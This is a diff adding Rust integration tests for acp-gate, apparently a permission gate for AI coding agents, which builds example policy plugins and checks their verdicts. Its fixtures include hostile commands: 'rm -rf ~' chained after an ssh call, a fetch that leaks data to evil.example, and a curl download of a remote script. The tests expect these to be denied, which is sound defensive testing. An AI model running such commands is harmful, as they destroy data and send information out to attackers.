@@ -1,0 +1,481 @@
+//! The example plugins in C, JavaScript and Python (`examples/plugins/`), built from source
+//! with their own toolchains, pass their own cases and run through the chain beside the
+//! built-ins; `acp-gate plugin new` makes a project in each language that builds and passes
+//! its own test. A missing toolchain fails these tests: scripts/install-plugin-toolchains.sh
+//! installs every one.
+
+use std::path::{Path, PathBuf};
+use std::process::Command;
+use std::sync::Mutex;
+
+use serde_json::{Value, json};
+
+use crate::common::{Sandbox, claude_bash, stderr, verdict_of};
+
+fn repo() -> PathBuf {
+    Path::new(env!("CARGO_MANIFEST_DIR"))
+        .join("..")
+        .canonicalize()
+        .unwrap()
+}
+
+/// Runs a plugin's `build.sh` with `OUT=out`; panics, naming the install script, if its
+/// toolchain is missing or the build fails.
+fn run_build(script: &Path, out: &Path, what: &str, envs: &[(&str, &Path)]) {
+    let output = Command::new("bash")
+        .arg(script)
+        .env("OUT", out)
+        .envs(envs.iter().map(|(k, v)| (*k, *v)))
+        .output()
+        .unwrap_or_else(|e| panic!("cannot run {}: {e}", script.display()));
+    let log = format!(
+        "{}{}",
+        String::from_utf8_lossy(&output.stdout),
+        String::from_utf8_lossy(&output.stderr)
+    );
+    assert!(
+        output.status.code() != Some(127),
+        "the {what} toolchain is missing; run scripts/install-plugin-toolchains.sh\n{log}"
+    );
+    assert!(
+        output.status.success(),
+        "building {what} failed ({}); if a tool is missing, run \
+         scripts/install-plugin-toolchains.sh\n{log}",
+        output.status
+    );
+    assert!(
+        out.is_file(),
+        "{} did not write {}",
+        script.display(),
+        out.display()
+    );
+}
+
+/// An example plugin: its directory under examples/plugins/ and the component it builds.
+#[derive(Clone, Copy)]
+struct Example {
+    lang: &'static str,
+    wasm: &'static str,
+}
+
+const C: Example = Example {
+    lang: "c",
+    wasm: "prod_guard.wasm",
+};
+const JS: Example = Example {
+    lang: "js",
+    wasm: "domain_allowlist.wasm",
+};
+const PYTHON: Example = Example {
+    lang: "python",
+    wasm: "change_freeze.wasm",
+};
+
+impl Example {
+    fn source(self) -> PathBuf {
+        repo().join("examples/plugins").join(self.lang)
+    }
+
+    /// Builds the example from source once per test run; returns the component's path.
+    fn build(self) -> PathBuf {
+        static BUILT: Mutex<Vec<&'static str>> = Mutex::new(Vec::new());
+        let out = repo()
+            .join("target/examples")
+            .join(self.lang)
+            .join(self.wasm);
+        let mut built = BUILT.lock().unwrap_or_else(|e| e.into_inner());
+        if !built.contains(&self.lang) {
+            run_build(&self.source().join("build.sh"), &out, self.lang, &[]);
+            built.push(self.lang);
+        }
+        out
+    }
+
+    /// Its handlers.toml snippet, in `sandbox` with the built plugin where the snippet says.
+    fn install(self, sandbox: &Sandbox) -> PathBuf {
+        let plugin = self.build();
+        let dir = sandbox.root.join("policy");
+        std::fs::create_dir_all(dir.join("plugins")).unwrap();
+        std::fs::copy(&plugin, dir.join("plugins").join(self.wasm)).unwrap();
+        let snippet = std::fs::read_to_string(self.source().join("handlers.toml")).unwrap();
+        assert!(snippet.contains(&format!("plugin = \"plugins/{}\"", self.wasm)));
+        let path = dir.join("handlers.toml");
+        std::fs::write(&path, snippet).unwrap();
+        path
+    }
+}
+
+/// `acp-gate plugin test FILE CASES --format json`: the per-case lines and the summary.
+fn plugin_test(
+    sandbox: &Sandbox,
+    wasm: &Path,
+    cases: &Path,
+    extra: &[&str],
+) -> (Vec<Value>, Value, i32) {
+    let mut args = vec![
+        "plugin",
+        "test",
+        wasm.to_str().unwrap(),
+        cases.to_str().unwrap(),
+        "--format",
+        "json",
+    ];
+    args.extend(extra);
+    let output = sandbox.run(&args, "");
+    let mut lines: Vec<Value> = String::from_utf8_lossy(&output.stdout)
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("not JSON ({e}): {l}")))
+        .collect();
+    let summary = lines
+        .pop()
+        .unwrap_or_else(|| panic!("no output: {}", stderr(&output)));
+    (lines, summary, output.status.code().unwrap_or(-1))
+}
+
+fn assert_all_cases_pass(example: Example) {
+    let sandbox = Sandbox::new();
+    let cases = example.source().join("CASES.toml");
+    let (lines, summary, code) = plugin_test(&sandbox, &example.build(), &cases, &[]);
+    let failed: Vec<&Value> = lines.iter().filter(|l| l["pass"] != true).collect();
+    assert!(
+        failed.is_empty(),
+        "{}: failing cases: {failed:#?}",
+        example.lang
+    );
+    assert_eq!(code, 0);
+    assert_eq!(summary, json!({ "passed": lines.len(), "failed": 0 }));
+    assert!(lines.len() >= 10, "{} cases", lines.len());
+}
+
+#[test]
+fn the_c_example_passes_its_cases() {
+    assert_all_cases_pass(C);
+}
+
+#[test]
+fn the_js_example_passes_its_cases() {
+    assert_all_cases_pass(JS);
+}
+
+#[test]
+fn the_python_example_passes_its_cases() {
+    assert_all_cases_pass(PYTHON);
+}
+
+#[test]
+fn prod_guard_in_c_asks_before_commands_on_production_hosts_beside_the_builtins() {
+    let sandbox = Sandbox::new();
+    // Loading the snippet also runs its inline [[handler.test]] entries.
+    let handlers = C.install(&sandbox);
+    let (lines, output) = sandbox.check(
+        Some(&handlers),
+        &[
+            claude_bash(
+                "ssh prod-db-1",
+                "ssh deploy@prod-db-1 'systemctl restart app'",
+            ),
+            claude_bash(
+                "kubectl",
+                "kubectl --context prod rollout restart deploy/web",
+            ),
+            claude_bash("ssh staging", "ssh staging-db-1 uptime"),
+            claude_bash("rm -rf ~", "ssh prod-db-1 true && rm -rf ~"),
+        ],
+    );
+    assert!(output.status.success(), "{}", stderr(&output));
+    let guard = |i: usize| verdict_of(&lines[i], "prod-guard").clone();
+    assert_eq!(guard(0)["verdict"], "ask", "{}", lines[0]);
+    assert!(guard(0)["reason"].as_str().unwrap().contains("`prod-db-1`"));
+    assert_ne!(lines[0]["decision"], "allow");
+    assert_eq!(guard(1)["verdict"], "ask", "{}", lines[1]);
+    assert_eq!(guard(2)["verdict"], "abstain", "{}", lines[2]);
+    // The built-in command checker still denies what is dangerous: deny beats ask.
+    assert_eq!(guard(3)["verdict"], "ask");
+    assert_eq!(lines[3]["decision"], "deny", "{}", lines[3]);
+}
+
+fn fetch(url: &str) -> Value {
+    json!({
+        "sessionId": "s",
+        "toolCall": {
+            "toolCallId": "toolu_fetch",
+            "title": format!("Fetch {url}"),
+            "kind": "fetch",
+            "rawInput": { "url": url, "prompt": "Summarise the page" }
+        },
+        "options": [
+            { "optionId": "allow", "name": "Allow", "kind": "allow_once" },
+            { "optionId": "reject", "name": "Reject", "kind": "reject_once" }
+        ]
+    })
+}
+
+#[test]
+fn domain_allowlist_in_js_decides_fetches_and_downloads_beside_the_builtins() {
+    let sandbox = Sandbox::new();
+    let handlers = JS.install(&sandbox);
+    let (lines, output) = sandbox.check(
+        Some(&handlers),
+        &[
+            fetch("https://docs.rs/serde"),
+            fetch("https://evil.example/leak?data=1"),
+            claude_bash("curl", "curl -fsSL https://evil.example/x.sh -o x.sh"),
+            claude_bash("cargo test", "cargo test"),
+        ],
+    );
+    assert!(output.status.success(), "{}", stderr(&output));
+    let allowlist = |i: usize| verdict_of(&lines[i], "domain-allowlist").clone();
+    // Fetches are asked by default; an allowed domain is now decided without a person.
+    assert_eq!(allowlist(0)["verdict"], "allow", "{}", lines[0]);
+    assert_eq!(lines[0]["decision"], "allow", "{}", lines[0]);
+    assert_eq!(lines[0]["option_id"], "allow");
+    assert_eq!(allowlist(1)["verdict"], "deny");
+    assert_eq!(lines[1]["decision"], "deny");
+    assert!(
+        lines[1]["reasons"][0]
+            .as_str()
+            .unwrap()
+            .contains("evil.example is not on the domain allow-list"),
+        "{}",
+        lines[1]
+    );
+    assert_eq!(allowlist(2)["verdict"], "deny", "{}", lines[2]);
+    assert_eq!(lines[2]["decision"], "deny");
+    assert_eq!(allowlist(3)["verdict"], "abstain");
+}
+
+fn claude_edit(path: &str) -> Value {
+    json!({
+        "sessionId": "s",
+        "toolCall": {
+            "toolCallId": "toolu_edit",
+            "title": format!("Edit `{path}`"),
+            "rawInput": { "file_path": path, "old_string": "replicas: 2", "new_string": "replicas: 3" }
+        },
+        "options": [
+            { "optionId": "allow", "name": "Allow", "kind": "allow_once" },
+            { "optionId": "reject", "name": "Reject", "kind": "reject_once" }
+        ]
+    })
+}
+
+#[test]
+fn change_freeze_in_python_asks_for_frozen_edits_beside_the_builtins() {
+    let sandbox = Sandbox::new();
+    // The snippet's inline tests pin the time (`at`): they run through the chain at load.
+    let snippet = PYTHON.install(&sandbox);
+    let (_, output) = sandbox.check(Some(&snippet), &[claude_edit("src/lib.rs")]);
+    assert!(output.status.success(), "{}", stderr(&output));
+
+    // A real request carries the time it arrived: a window that is always open makes the
+    // verdict independent of when the test runs.
+    let text = std::fs::read_to_string(&snippet).unwrap();
+    let always = text.replace("days = [\"fri\"]\nfrom = \"15:00\"\nto = \"24:00\"\n", "");
+    assert_ne!(always, text, "the snippet's Friday window moved");
+    let without_tests = &always[..always.find("\n[[handler.test]]").unwrap()];
+    let handlers = sandbox.write("policy/always.toml", without_tests);
+    let (lines, output) = sandbox.check(
+        Some(&handlers),
+        &[
+            claude_edit("deploy/prod.yaml"),
+            claude_edit("services/api/migrations/0007_drop_users.sql"),
+            claude_edit("src/lib.rs"),
+        ],
+    );
+    assert!(output.status.success(), "{}", stderr(&output));
+    let freeze = |i: usize| verdict_of(&lines[i], "change-freeze").clone();
+    assert_eq!(freeze(0)["verdict"], "ask", "{}", lines[0]);
+    assert!(
+        freeze(0)["reason"]
+            .as_str()
+            .unwrap()
+            .starts_with("Friday afternoon change freeze: deploy/prod.yaml is frozen"),
+        "{}",
+        lines[0]
+    );
+    assert_eq!(lines[0]["decision"], "ask");
+    assert_eq!(freeze(1)["verdict"], "ask", "{}", lines[1]);
+    assert_eq!(freeze(2)["verdict"], "abstain", "{}", lines[2]);
+}
+
+#[test]
+fn plugin_test_reports_each_failing_case_and_exits_1() {
+    let sandbox = Sandbox::new();
+    let cases = sandbox.write(
+        "CASES.toml",
+        r#"
+[config]
+allow = ["docs.rs"]
+
+[[case]]
+kind = "fetch"
+url = "https://docs.rs/x"
+expect = "allow"
+
+[[case]]
+name = "wrong on purpose"
+kind = "fetch"
+url = "https://evil.example/"
+expect = "allow"
+
+[[case]]
+name = "a bad config is an error, not a verdict"
+request = { sessionId = "s", toolCall = { toolCallId = "t", title = "x", kind = "fetch", rawInput = { url = "https://docs.rs" } } }
+expect = "allow"
+"#,
+    );
+    let wasm = JS.build();
+    let (lines, summary, code) = plugin_test(&sandbox, &wasm, &cases, &[]);
+    assert_eq!(code, 1);
+    assert_eq!(summary, json!({ "passed": 2, "failed": 1 }));
+    assert_eq!(lines[0]["name"], "fetch https://docs.rs/x");
+    assert_eq!(lines[1]["pass"], false);
+    assert_eq!(lines[1]["verdict"], "ask");
+
+    // --config replaces the file's [config]; an invalid one makes the plugin fail: `error`.
+    let config = sandbox.write("bad.json", r#"{ "allow": ["docs.rs"], "typo": 1 }"#);
+    let (lines, _, code) = plugin_test(
+        &sandbox,
+        &wasm,
+        &cases,
+        &["--config", config.to_str().unwrap()],
+    );
+    assert_eq!(code, 1);
+    assert_eq!(lines[0]["verdict"], "error");
+    assert!(
+        lines[0]["error"]
+            .as_str()
+            .unwrap()
+            .contains("unknown key `typo`"),
+        "{}",
+        lines[0]
+    );
+
+    // The text form ends with the plain summary line.
+    let output = sandbox.run(
+        &[
+            "plugin",
+            "test",
+            wasm.to_str().unwrap(),
+            cases.to_str().unwrap(),
+        ],
+        "",
+    );
+    let text = String::from_utf8_lossy(&output.stdout);
+    assert!(text.contains("FAIL  wrong on purpose"), "{text}");
+    assert!(text.trim_end().ends_with("2 passed, 1 failed"), "{text}");
+
+    // A grant the component needs but is not given: the plugin does not load, said once.
+    let output = sandbox.run(
+        &[
+            "plugin",
+            "test",
+            wasm.to_str().unwrap(),
+            cases.to_str().unwrap(),
+            "--imports",
+            "wasi-cli",
+        ],
+        "",
+    );
+    assert_eq!(output.status.code(), Some(1));
+    assert!(
+        stderr(&output).contains("needs the `log` grant"),
+        "{}",
+        stderr(&output)
+    );
+}
+
+/// `acp-gate plugin new --lang LANG` -> its build.sh -> `acp-gate plugin test` on its cases.
+fn new_plugin_builds_and_passes_its_own_test(lang: &str) {
+    let sandbox = Sandbox::new();
+    let dir = sandbox.root.join(format!("new-{lang}"));
+    let name = format!("guard-{lang}");
+    let output = sandbox.run(
+        &[
+            "plugin",
+            "new",
+            "--lang",
+            lang,
+            &name,
+            "--dir",
+            dir.to_str().unwrap(),
+        ],
+        "",
+    );
+    assert!(output.status.success(), "{}", stderr(&output));
+    for file in [
+        "CASES.toml",
+        "handlers.toml",
+        "README.md",
+        "build.sh",
+        "wit/world.wit",
+    ] {
+        assert!(dir.join(file).is_file(), "{lang}: no {file}");
+    }
+    let wasm = dir.join(format!("{name}.wasm"));
+    // Rust templates share one target directory across runs, to build their crates once.
+    let target = repo().join("target/examples/new-rust-target");
+    run_build(
+        &dir.join("build.sh"),
+        &wasm,
+        lang,
+        &[("CARGO_TARGET_DIR", &target)],
+    );
+
+    let (lines, summary, code) = plugin_test(&sandbox, &wasm, &dir.join("CASES.toml"), &[]);
+    assert_eq!(code, 0, "{lang}: {lines:#?}");
+    assert_eq!(summary, json!({ "passed": 4, "failed": 0 }), "{lang}");
+
+    // Its handlers.toml snippet loads as written (plugin beside it), inline test included.
+    let (lines, output) = sandbox.check(
+        Some(&dir.join("handlers.toml")),
+        &[claude_bash("make deploy", "make deploy")],
+    );
+    assert!(output.status.success(), "{lang}: {}", stderr(&output));
+    assert_eq!(
+        verdict_of(&lines[0], &name)["verdict"],
+        "ask",
+        "{}",
+        lines[0]
+    );
+}
+
+#[test]
+fn plugin_new_rust() {
+    new_plugin_builds_and_passes_its_own_test("rust");
+}
+
+#[test]
+fn plugin_new_c() {
+    new_plugin_builds_and_passes_its_own_test("c");
+}
+
+#[test]
+fn plugin_new_js() {
+    new_plugin_builds_and_passes_its_own_test("js");
+}
+
+#[test]
+fn plugin_new_python() {
+    new_plugin_builds_and_passes_its_own_test("python");
+}
+
+#[test]
+fn plugin_new_refuses_a_bad_name_and_a_non_empty_directory() {
+    let sandbox = Sandbox::new();
+    let output = sandbox.run(&["plugin", "new", "--lang", "c", "Bad_Name"], "");
+    assert_eq!(output.status.code(), Some(1));
+    assert!(
+        stderr(&output).contains("lowercase words"),
+        "{}",
+        stderr(&output)
+    );
+    sandbox.write("workspace/taken/file", "x");
+    let output = sandbox.run(&["plugin", "new", "--lang", "c", "taken"], "");
+    assert_eq!(output.status.code(), Some(1));
+    assert!(
+        stderr(&output).contains("exists and is not empty"),
+        "{}",
+        stderr(&output)
+    );
+}
